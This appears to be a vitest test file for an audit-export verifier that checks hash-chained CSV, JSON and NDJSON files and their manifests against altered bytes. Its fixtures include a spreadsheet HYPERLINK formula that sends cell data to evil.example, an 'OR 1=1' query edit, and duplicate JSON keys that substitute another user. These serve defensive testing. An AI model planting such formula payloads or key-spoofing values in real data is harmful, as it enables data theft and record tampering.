// verifyExport against files that read back to the exported values but are
// not the exporter's bytes, and against manifests re-saved by other tools.
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  buildManifest, CANONICAL_HEADER_V2, chainHeader, HashChain, normaliseRow, parseManifest, type Column, type Manifest, type ManifestHeader, type Row,
} from '../src/chain.ts';
import { EXPORT_FORMATS, exportWriter, type ExportFormat } from '../src/export-format.ts';
import { verifyExport } from '../src/trail.ts';
import { verifyStream } from '../src/verify.ts';

const COLUMNS: Column[] = [
  { name: 'event_id', kind: 'string' },
  { name: 'event_time_ms', kind: 'number' },
  { name: 'person_id', kind: 'string', nullable: true },
  { name: 'person_display_name', kind: 'string', nullable: true },
  { name: 'device_managed', kind: 'bool', nullable: true },
  { name: 'chain_ids', kind: 'strings' },
];

const HEADER: ManifestHeader = {
  subject: { kind: 'person', value: 'okta:00u_dana' },
  time_range: { from: '2026-01-01T00:00:00.000Z', to: '2026-02-01T00:00:00.000Z' },
  query: "SELECT ... WHERE person_id = 'okta:00u_dana'",
  parameters: { subject: 'okta:00u_dana', from: 1767225600000, to: 1769904000000 },
  columns: COLUMNS,
};

// Row 2's name is a spreadsheet formula (written with a guarding apostrophe), row 3's user starts with one.
const ROWS: Row[] = [
  { event_id: 'e1', event_time_ms: '1767225600000', person_id: 'okta:00u_dana', person_display_name: 'Dana', device_managed: 1, chain_ids: [] },
  { event_id: 'e2', event_time_ms: '1767225601000', person_id: 'okta:00u_dana', person_display_name: '=HYPERLINK("https://evil.example/?"&A2,"Open")', device_managed: null, chain_ids: ['openai:api_key:k1'] },
  { event_id: 'e3', event_time_ms: '1767225602000', person_id: 'okta:00u_dana', person_display_name: "'quoted", device_managed: 0, chain_ids: ['a', 'b'] },
].map((r) => normaliseRow(COLUMNS, r));

const GENERATED = new Date('2026-02-02T00:00:00Z');

function exported(format: ExportFormat, version: 1 | 2 | 3 = 3): { text: string; manifest: Manifest } {
  const writer = exportWriter(format, COLUMNS);
  const chain = new HashChain(version === 3 ? chainHeader(HEADER, format, GENERATED) : HEADER, version);
  let text = writer.begin();
  for (const row of ROWS) {
    chain.push(row);
    text += writer.row(row);
  }
  text += writer.end();
  const manifest = buildManifest(HEADER, chain, format, GENERATED);
  if (version === 3) return { text, manifest };
  // What earlier exporters wrote: version 2 hashed the query fields only; version 1 also had no `hash.header`.
  if (version === 2) return { text, manifest: { ...manifest, tether_trail_manifest: 2, hash: { ...manifest.hash, header: CANONICAL_HEADER_V2 } } };
  const { header: _header, ...hash } = manifest.hash;
  return { text, manifest: { ...manifest, tether_trail_manifest: 1, hash } };
}

/** Deep copy with every object's keys in the order `order` gives (what jq -S, jsonb or a YAML round trip do). */
function reorderKeys(value: unknown, order: (keys: string[]) => string[]): unknown {
  if (Array.isArray(value)) return value.map((v) => reorderKeys(v, order));
  if (value === null || typeof value !== 'object') return value;
  const record = value as Record<string, unknown>;
  return Object.fromEntries(order(Object.keys(record)).map((k) => [k, reorderKeys(record[k], order)]));
}

describe('exports as the exporter wrote them', () => {
  it.each(EXPORT_FORMATS)('%s verifies from its text and from its bytes', (format) => {
    const { text, manifest } = exported(format);
    expect(manifest.tether_trail_manifest).toBe(3);
    expect(verifyExport(text, manifest)).toEqual({ ok: true, rowCount: 3, finalDigest: manifest.final_digest });
    expect(verifyExport(Buffer.from(text, 'utf8'), manifest)).toMatchObject({ ok: true });
  });

  it.each(EXPORT_FORMATS)('%s with a version 2 manifest (query fields hashed, generated_at not) still verifies', (format) => {
    const { text, manifest } = exported(format, 2);
    expect(verifyExport(text, manifest)).toMatchObject({ ok: true, rowCount: 3 });
    expect(verifyExport(text, { ...manifest, generated_at: '2030-01-01T00:00:00.000Z' })).toMatchObject({ ok: true });
  });

  it.each(EXPORT_FORMATS)('%s with a version 1 manifest (header hashed in key order) still verifies', (format) => {
    const { text, manifest } = exported(format, 1);
    expect(manifest.hash.h0).toBe(createHash('sha256').update(JSON.stringify(HEADER)).digest('hex'));
    expect(verifyExport(text, manifest)).toMatchObject({ ok: true, rowCount: 3 });
    expect(verifyExport(text, { ...manifest, query: `${manifest.query} OR 1=1` })).toMatchObject({ ok: false, reason: 'header_modified' });
  });
});

describe('a file that reads back to the exported values but is not the exported file', () => {
  const cases: Array<[ExportFormat, string, (text: string) => string, number | null]> = [
    // The guarding apostrophe removed: the file now holds a live formula.
    ['csv', 'formula without its apostrophe', (t) => t.replace(`"'=HYPERLINK`, '"=HYPERLINK'), 2],
    ['csv', 'an apostrophe the writer would not add', (t) => t.replace('"Dana"', `"'Dana"`), 1],
    ['csv', 'LF line ends', (t) => t.replaceAll('\r\n', '\n'), null],
    ['csv', 'a list cell unquoted', (t) => t.replace(',"[]"\r\n', ',[]\r\n'), 1],
    ['csv', 'a list with spaces', (t) => t.replace('"[""a"",""b""]"', '"[ ""a"", ""b"" ]"'), 3],
    ['csv', 'a number spelled another way', (t) => t.replace(',1767225600000,', ',1.7672256e12,'), 1],
    ['csv', 'a boolean as 1', (t) => t.replace(',true,', ',1,'), 1],
    // Two person_id: JSON.parse keeps the last, a reader keeping the first sees mallory.
    ['json', 'a duplicate key naming someone else first', (t) => t.replace('"person_id":"okta:00u_dana","person_display_name":"=', '"person_id":"okta:00u_mallory","person_id":"okta:00u_dana","person_display_name":"='), 2],
    ['ndjson', 'a duplicate key naming someone else first', (t) => t.replace('"person_id":"okta:00u_dana","person_display_name":"Dana"', '"person_id":"okta:00u_mallory","person_id":"okta:00u_dana","person_display_name":"Dana"'), 1],
    ['json', 'keys in another order', (t) => t.replace('{"event_id":"e3","event_time_ms":1767225602000', '{"event_time_ms":1767225602000,"event_id":"e3"'), 3],
    ['ndjson', 'an escaped letter', (t) => t.replace('"Dana"', '"\\u0044ana"'), 1],
    ['ndjson', 'pretty-printed whitespace', (t) => t.replace('{"event_id":"e2"', '{ "event_id": "e2"'), 2],
    ['ndjson', 'a blank line between rows', (t) => t.replace('\n', '\n\n'), 2],
    ['ndjson', 'no final line end', (t) => t.slice(0, -1), 3],
    ['json', 'another layout', (t) => JSON.stringify(JSON.parse(t), null, 2), 1],
  ];

  it.each(cases)('%s: %s is refused as not canonical', (format, _what, edit, row) => {
    const { text, manifest } = exported(format);
    const edited = edit(text);
    expect(edited).not.toBe(text);
    expect(verifyExport(edited, manifest)).toMatchObject({ ok: false, reason: 'not_canonical', firstBadRow: row });
  });

  it.each(EXPORT_FORMATS)('%s: a byte order mark or invalid UTF-8 is refused', (format) => {
    const { text, manifest } = exported(format);
    const bytes = Buffer.from(text, 'utf8');
    expect(() => verifyExport(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes]), manifest)).toThrow(/byte order mark/);
    const at = bytes.indexOf('Dana');
    const broken = Buffer.concat([bytes.subarray(0, at), Buffer.from([0xff]), bytes.subarray(at + 1)]);
    expect(() => verifyExport(broken, manifest)).toThrow(/not valid UTF-8/);
  });

  it('an edited value is still named as a modified row, before a later respelling', () => {
    const { text, manifest } = exported('csv');
    const edited = text.replace('"e1"', '"e9"').replace(`"'=HYPERLINK`, '"=HYPERLINK');
    expect(verifyExport(edited, manifest)).toMatchObject({ ok: false, reason: 'row_modified', firstBadRow: 1 });
    const later = text.replace('"e3"', '"e9"').replace(`"'=HYPERLINK`, '"=HYPERLINK');
    expect(verifyExport(later, manifest)).toMatchObject({ ok: false, reason: 'not_canonical', firstBadRow: 2 });
  });
});

describe('the manifest header hash', () => {
  it('is sha256 of every manifest field known before the rows, in RFC 8785 form, spelled out here independently', () => {
    const { manifest } = exported('csv');
    const columns = COLUMNS.map((c) => `{"kind":"${c.kind}","name":"${c.name}"${c.nullable ? ',"nullable":true' : ''}}`).join(',');
    const hash = `{"algorithm":"sha256","canonical_row":${JSON.stringify(manifest.hash.canonical_row)},"chain":${JSON.stringify(manifest.hash.chain)},"header":${JSON.stringify(manifest.hash.header)}}`;
    const canonical =
      `{"columns":[${columns}],"format":"csv","generated_at":"2026-02-02T00:00:00.000Z","hash":${hash},` +
      `"parameters":{"from":1767225600000,"subject":"okta:00u_dana","to":1769904000000},` +
      `"query":"SELECT ... WHERE person_id = 'okta:00u_dana'","subject":{"kind":"person","value":"okta:00u_dana"},` +
      `"tether_trail_manifest":3,"time_range":{"from":"2026-01-01T00:00:00.000Z","to":"2026-02-01T00:00:00.000Z"}}`;
    expect(manifest.hash.h0).toBe(createHash('sha256').update(canonical, 'utf8').digest('hex'));
    expect(manifest.hash.header).toMatch(/RFC 8785/);
    expect(manifest.hash.chain).toMatch(/canonical header/);
  });

  it.each([
    ['generated_at', (m: Manifest) => ({ ...m, generated_at: '2026-03-01T00:00:00.000Z' })],
    ['format', (m: Manifest) => ({ ...m, format: 'ndjson' })],
    ['the hash description', (m: Manifest) => ({ ...m, hash: { ...m.hash, canonical_row: 'anything' } })],
    ['the version', (m: Manifest) => ({ ...m, tether_trail_manifest: 2 as const })],
  ])('an edited %s is a modified header', (_field, edit) => {
    const { text, manifest } = exported('csv');
    expect(verifyExport(text, edit(manifest))).toMatchObject({ ok: false, reason: 'header_modified' });
  });

  it('an edited row_count is caught', () => {
    const { text, manifest } = exported('ndjson');
    expect(verifyExport(text, { ...manifest, row_count: 2 })).toMatchObject({ ok: false, reason: 'rows_added' });
    expect(verifyExport(text, { ...manifest, row_count: 4 })).toMatchObject({ ok: false, reason: 'rows_missing' });
  });

  it.each([
    ['sorted (jq -S)', (keys: string[]) => [...keys].sort()],
    ['reversed', (keys: string[]) => [...keys].reverse()],
  ])('a manifest re-saved with its keys %s still verifies', (_name, order) => {
    for (const format of EXPORT_FORMATS) {
      const { text, manifest } = exported(format);
      const resaved = parseManifest(`${JSON.stringify(reorderKeys(manifest, order), null, 4)}\n`);
      expect(verifyExport(text, resaved), format).toMatchObject({ ok: true, rowCount: 3 });
      expect(verifyExport(text, { ...resaved, subject: { kind: 'person', value: 'okta:00u_mallory' } })).toMatchObject({ ok: false, reason: 'header_modified' });
    }
  });

  it('refuses a manifest that gives a key twice or has an unknown version', () => {
    const { manifest } = exported('csv');
    const text = JSON.stringify(manifest, null, 2);
    const twice = text.replace('"subject": {', '"subject": {\n    "value": "okta:00u_mallory",');
    expect(JSON.parse(twice)).toMatchObject({ subject: { value: 'okta:00u_dana' } });
    expect(() => parseManifest(twice)).toThrow(/key "value" twice/);
    expect(() => parseManifest(text.replace('"tether_trail_manifest": 3', '"tether_trail_manifest": 4'))).toThrow(/known version/);
    expect(() => parseManifest('[1]')).toThrow(/known version|not a JSON object/);
    expect(parseManifest(text)).toEqual(manifest);
  });
});

describe('streaming verification', () => {
  /** Feeds the file in chunks of `size` bytes, as fs.createReadStream would (chunks cut through characters and lines). */
  const inChunks = async (text: string, manifest: Manifest, size: number) => {
    const bytes = Buffer.from(text, 'utf8');
    async function* chunks() {
      for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
    }
    return verifyStream(chunks(), manifest);
  };

  it.each(EXPORT_FORMATS)('%s: the same verdicts whatever the chunk size', async (format) => {
    const { text, manifest } = exported(format);
    const edits = [
      text,
      text.replace('e2', 'e9'),
      format === 'csv' ? text.replace(`"'=HYPERLINK`, '"=HYPERLINK') : text.replace('"Dana"', '"\\u0044ana"'),
      text.slice(0, -3),
    ];
    for (const edited of edits) {
      const whole = verifyExport(edited, manifest);
      for (const size of [1, 2, 7, 64]) expect(await inChunks(edited, manifest, size), `${format} ${size}`).toEqual(whole);
    }
  });

  it.each(EXPORT_FORMATS)('%s: one extra line end after the last byte is tolerated, two are not', (format) => {
    const { text, manifest } = exported(format);
    expect(verifyExport(`${text}\n`, manifest)).toMatchObject({ ok: true, rowCount: 3 });
    expect(verifyExport(`${text}\n\n`, manifest)).toMatchObject({ ok: false, reason: 'not_canonical' });
    expect(verifyExport(`${text}\nx`, manifest)).toMatchObject({ ok: false });
  });

  it('a deleted last row with a line end in its place is a missing row', () => {
    const { text, manifest } = exported('ndjson');
    const lines = text.split('\n');
    expect(verifyExport(`${lines.slice(0, 2).join('\n')}\n\n`, manifest)).toMatchObject({ ok: false, reason: 'rows_missing', firstBadRow: 3 });
  });

  it('a CSV cell holding line ends verifies and a record cut inside its quotes does not', () => {
    const rows = [normaliseRow(COLUMNS, { event_id: 'e1', event_time_ms: 1, person_id: 'a\nb\r\nc', person_display_name: null, device_managed: null, chain_ids: [] })];
    const writer = exportWriter('csv', COLUMNS);
    const chain = new HashChain(chainHeader(HEADER, 'csv', GENERATED));
    for (const row of rows) chain.push(row);
    const text = writer.begin() + rows.map((r) => writer.row(r)).join('') + writer.end();
    const manifest = buildManifest(HEADER, chain, 'csv', GENERATED);
    expect(verifyExport(text, manifest)).toMatchObject({ ok: true, rowCount: 1 });
    expect(verifyExport(text.slice(0, text.indexOf('\r\nc')), manifest)).toMatchObject({ ok: false, firstBadRow: 1 });
  });
});
